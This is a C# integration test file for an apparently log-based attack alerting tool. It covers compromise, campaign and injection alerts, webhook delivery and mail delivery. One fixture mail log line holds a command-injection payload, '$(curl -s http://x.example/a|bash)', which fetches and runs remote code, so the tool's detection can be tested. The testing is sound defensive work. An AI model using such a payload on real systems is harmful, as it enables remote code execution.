using System.Globalization;
using System.Net;
using System.Text.Json;
using AttackDash.Operations;
using AttackDash.Operations.Alerts;
using AttackDash.Storage.Alerts;
using Microsoft.Extensions.Hosting;

namespace AttackDash.Storage.IntegrationTests;

/// <summary>Live alerts: raised from the newest lines whichever process ingested them, once per quiet time, and carried by a real HTTP webhook.</summary>
[Collection(PostgresCollection.Name)]
public sealed class AlertTests(PostgresFixture pg)
{
    private static readonly AlertRules Rules = new(AlertKinds.All, TimeSpan.FromDays(30), TimeSpan.FromHours(1));

    [Fact]
    public async Task A_login_from_a_client_that_attacked_raises_one_alert_and_the_same_lines_raise_nothing_again()
    {
        var now = DateTimeOffset.UtcNow;
        var (_, alerts) = await IngestedAsync([
            AttackLines.AuthSuccess(now.AddDays(-400), "185.220.101.7", "admin"),   // history, not news
            .. Enumerable.Range(0, 3).Select(i => AttackLines.AuthFailure(now.AddMinutes(-10).AddSeconds(i), "185.220.101.7", "admin")),
            AttackLines.AuthSuccess(now.AddMinutes(-5), "185.220.101.7", "admin"),
            AttackLines.AuthSuccess(now.AddMinutes(-4), "185.220.101.7", "admin<!channel>"),   // the same client again: quiet
            AttackLines.AuthSuccess(now.AddMinutes(-5), "62.233.50.9", "alice"),            // never attacked: no alert
            AttackLines.Line(now.AddMinutes(-3), "5392CiAa003103: from=<$(curl -s http://x.example/a|bash)@x>, size=0, class=0, nrcpts=0, proto=ESMTP, daemon=MTA, relay=[185.220.101.6]"),
        ]);

        var raised = await alerts.RaiseAsync(now.AddMinutes(-15), Rules);

        Assert.Equal([(AlertKinds.Injection, "185.220.101.6", 1L), (AlertKinds.PossibleCompromise, "185.220.101.7", 3L)],
            raised.Select(a => (a.Kind, a.Ip, a.Attacks)).OrderBy(a => a.Kind, StringComparer.Ordinal));
        Assert.Equal("admin<!channel>", raised.Single(a => a.Kind == AlertKinds.PossibleCompromise).Username);   // the newest line is the evidence
        Assert.Empty(await alerts.RaiseAsync(now.AddMinutes(-15), Rules));
        Assert.Empty(await alerts.RaiseAsync(now.AddMinutes(-15), Rules with { Kinds = [] }));
        Assert.Equal(2, await alerts.OpenCountAsync());
    }

    [Fact]
    public async Task A_campaign_is_raised_once_per_username_and_a_login_with_its_username_from_a_clean_address_is_a_possible_compromise()
    {
        var now = DateTimeOffset.UtcNow;
        var (_, alerts) = await IngestedAsync([
            .. Enumerable.Range(1, 5).Select(i => AttackLines.AuthFailure(now.AddMinutes(-6).AddSeconds(i), $"185.220.101.{i}", "sales")),
            .. Enumerable.Range(0, 12).Select(i => AttackLines.AuthFailure(now.AddMinutes(-20).AddSeconds(i), "45.155.205.3", $"u{i}")),
            AttackLines.AuthSuccess(now.AddMinutes(-1), "62.233.50.9", "sales"),   // never attacked: the stolen password worked
        ]);
        var rules = Rules with { HeavyHitterEvents = 10 };

        var raised = await alerts.RaiseAsync(now.AddMinutes(-15), rules);

        Assert.Equal([(AlertKinds.Campaign, "185.220.101.5", "sales", 5L), (AlertKinds.PossibleCompromise, "62.233.50.9", "sales", 0L)],
            raised.Select(a => (a.Kind, a.Ip, a.Username, a.Attacks)));
        // The heavy hitter stopped 20 minutes ago, before the horizon: history, not news.
        Assert.DoesNotContain(raised, a => a.Kind == AlertKinds.HeavyHitter);
        var late = await alerts.RaiseAsync(now.AddMinutes(-30), rules);
        Assert.Equal([(AlertKinds.HeavyHitter, "45.155.205.3", 12L)], late.Select(a => (a.Kind, a.Ip, a.Attacks)));
        Assert.Empty(await alerts.RaiseAsync(now.AddMinutes(-30), rules));
    }

    [Fact]
    public async Task Acknowledging_an_alert_is_audited_once_and_closes_it()
    {
        var now = DateTimeOffset.UtcNow;
        var (cs, alerts) = await IngestedAsync([AttackLines.AuthFailure(now.AddMinutes(-2), "185.220.101.7", "root"), AttackLines.AuthSuccess(now.AddMinutes(-1), "185.220.101.7", "root")]);
        var id = (await alerts.RaiseAsync(now.AddMinutes(-15), Rules)).Single().Id;

        Assert.True(await alerts.AcknowledgeAsync(id, "admin"));
        Assert.False(await alerts.AcknowledgeAsync(id, "someone else"));

        Assert.Equal(0, await alerts.OpenCountAsync());
        Assert.Equal("admin", (await alerts.ListAsync(openOnly: false, 0, 10)).Rows.Single().AcknowledgedBy);
        Assert.Equal(1, await TestSql.ScalarAsync(cs, $"SELECT count(*) FROM audit_log WHERE action = 'acknowledge' AND target = 'alert {id}' AND actor = 'admin'"));
    }

    [Fact]
    public async Task A_compromise_line_appended_to_a_followed_log_reaches_the_webhook_within_a_minute_and_only_once()
    {
        var cs = await pg.NewDatabaseAsync();
        using var dir = new TempDir();
        var log = dir.File("mail.log");
        var now = DateTimeOffset.UtcNow;
        await File.WriteAllLinesAsync(log, [AttackLines.AuthFailure(now.AddMinutes(-3), "185.220.101.7", "admin")]);
        using var hook = new WebhookListener();
        using var host = BuildHost(new Dictionary<string, string?>
        {
            ["ConnectionStrings:AttackDash"] = cs,
            ["Ingest:Paths:0"] = log,
            ["Ingest:FlushInterval"] = "00:00:00.2",
            ["GeoIp:Directory"] = "/nonexistent",
            ["Alerts:Interval"] = "00:00:01",
            ["Alerts:Webhook:Url"] = hook.Url,
        });
        await host.StartAsync();
        await Task.Delay(1500);
        var appended = DateTime.UtcNow;
        await File.AppendAllLinesAsync(log, [AttackLines.AuthSuccess(DateTimeOffset.UtcNow, "185.220.101.7", "admin")]);

        var body = await hook.NextAsync(TimeSpan.FromSeconds(60));
        var latency = DateTime.UtcNow - appended;
        await File.AppendAllLinesAsync(log, [AttackLines.AuthSuccess(DateTimeOffset.UtcNow, "185.220.101.7", "admin")]);
        var again = await hook.NextAsync(TimeSpan.FromSeconds(4));
        await host.StopAsync();

        var alert = JsonDocument.Parse(body!).RootElement;
        Assert.Equal(("possible_compromise", "185.220.101.7", "admin", 1L), (alert.GetProperty("kind").GetString(), alert.GetProperty("ip").GetString(),
            alert.GetProperty("username").GetString(), alert.GetProperty("attacks").GetInt64()));
        Assert.StartsWith("AttackDash: possible compromise: 185.220.101.7 succeeded as 'admin'", alert.GetProperty("text").GetString(), StringComparison.Ordinal);
        Assert.True(latency < TimeSpan.FromSeconds(60), $"{latency}");
        Assert.Null(again);
        Assert.Equal(1, await TestSql.ScalarAsync(cs, "SELECT count(*) FROM alerts WHERE sent_at IS NOT NULL AND send_attempts = 1"));
    }

    [Fact]
    public async Task An_alert_is_mailed_once_through_the_digest_s_transport_with_the_attacker_text_kept_out_of_the_headers()
    {
        var cs = await pg.NewDatabaseAsync();
        using var dir = new TempDir();
        var log = dir.File("mail.log");
        var now = DateTimeOffset.UtcNow;
        await File.WriteAllLinesAsync(log, [AttackLines.AuthFailure(now.AddMinutes(-3), "185.220.101.7", "admin"), AttackLines.AuthSuccess(now.AddMinutes(-1), "185.220.101.7", "admin")]);
        var captured = dir.File("captured.eml");
        var fake = dir.File("sendmail");
        await File.WriteAllTextAsync(fake, $"#!/bin/sh\necho \"args: $*\" >> {captured}\ncat >> {captured}\n");
        if (!OperatingSystem.IsWindows())
            File.SetUnixFileMode(fake, UnixFileMode.UserRead | UnixFileMode.UserWrite | UnixFileMode.UserExecute);
        using var host = BuildHost(new Dictionary<string, string?>
        {
            ["ConnectionStrings:AttackDash"] = cs,
            ["Ingest:Paths:0"] = log,
            ["Ingest:FlushInterval"] = "00:00:00.2",
            ["GeoIp:Directory"] = "/nonexistent",
            ["Alerts:Interval"] = "00:00:01",
            ["Alerts:MailTo:0"] = "ops@example.org",
            ["Digest:SendmailPath"] = fake,
            ["Digest:DashboardUrl"] = "https://attackdash.example.org",
        });
        await host.StartAsync();
        var deadline = DateTime.UtcNow.AddSeconds(30);
        while (DateTime.UtcNow < deadline && !File.Exists(captured))
            await Task.Delay(200);
        await Task.Delay(3000);   // three more rounds: nothing more is mailed
        await host.StopAsync();

        var mail = await File.ReadAllTextAsync(captured);
        Assert.Single(System.Text.RegularExpressions.Regex.Matches(mail, "^args: -t -i$", System.Text.RegularExpressions.RegexOptions.Multiline));
        Assert.Contains("To: ops@example.org\r\nSubject: AttackDash: possible compromise from 185.220.101.7\r\n", mail, StringComparison.Ordinal);
        Assert.Contains("succeeded as 'admin'", mail, StringComparison.Ordinal);
        Assert.Contains("https://attackdash.example.org/alerts", mail, StringComparison.Ordinal);
    }

    /// <summary>A new store holding <paramref name="lines"/>, ingested by the CLI, and its alert service.</summary>
    private async Task<(string Cs, AlertService Alerts)> IngestedAsync(IEnumerable<string> lines)
    {
        var cs = await pg.NewDatabaseAsync();
        using var dir = new TempDir();
        var log = dir.File("maillog");
        await File.WriteAllLinesAsync(log, lines);
        Assert.Equal(0, TestCli.Run(cs, "ingest", log).Exit);
        return (cs, new AlertService(Store.Of(cs)));
    }

    [Theory]
    [InlineData("Alerts:Kinds:0", "everything", "Alerts:Kinds: 'everything' is not one of")]
    [InlineData("Alerts:Webhook:Url", "ftp://hooks.example.org/x", "is not an http or https address")]
    [InlineData("Alerts:Webhook:Format", "teams", "Format")]
    public async Task A_broken_alert_setting_stops_the_host_with_the_setting_named(string key, string value, string message)
    {
        using var host = BuildHost(new Dictionary<string, string?> { ["ConnectionStrings:AttackDash"] = pg.ServerConnectionString, [key] = value });
        var e = await Assert.ThrowsAsync<Microsoft.Extensions.Options.OptionsValidationException>(() => host.StartAsync());
        Assert.Contains(message, e.Message, StringComparison.Ordinal);
    }

    private static IHost BuildHost(Dictionary<string, string?> settings) => TestHosts.Build(settings, (services, configuration) =>
    {
        services.AddAttackDashReview(configuration);
        services.AddAttackDashAlerts(configuration);
    });
}
